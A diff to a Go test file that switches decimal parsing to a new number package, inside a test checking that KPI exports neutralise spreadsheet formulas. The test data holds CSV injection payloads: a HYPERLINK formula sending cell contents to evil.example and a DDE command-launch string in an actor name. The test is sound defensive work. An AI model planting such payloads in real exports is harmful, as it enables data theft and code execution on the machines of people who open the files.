@@ -8,6 +8,7 @@ import (
 
 	"github.com/accord-alliance/accord/internal/accord"
 	"github.com/accord-alliance/accord/internal/importcsv"
+	"github.com/accord-alliance/accord/internal/number"
 	"github.com/accord-alliance/accord/internal/store"
 )
 
@@ -24,8 +25,8 @@ func TestKPIExportNeutralisesFormulas(t *testing.T) {
 			segments := []string{`=HYPERLINK("https://evil.example/?"&A1)`, "+1+1", "-2", "@SUM(A1:A9)", "Eastgate"}
 			var rows []accord.ObservationInput
 			for i, seg := range segments {
-				n, _ := accord.ParseDecimal("1")
-				d, _ := accord.ParseDecimal("2")
+				n, _ := number.ParseDecimal("1")
+				d, _ := number.ParseDecimal("2")
 				rows = append(rows, accord.ObservationInput{KPI: k.Key, Period: "2024-0" + string(rune('1'+i)), Segment: seg, Numerator: &n, Denominator: &d, Line: i + 2})
 			}
 			actor := accord.Actor{Name: "=cmd|' /C calc'!A0", Via: "test"}
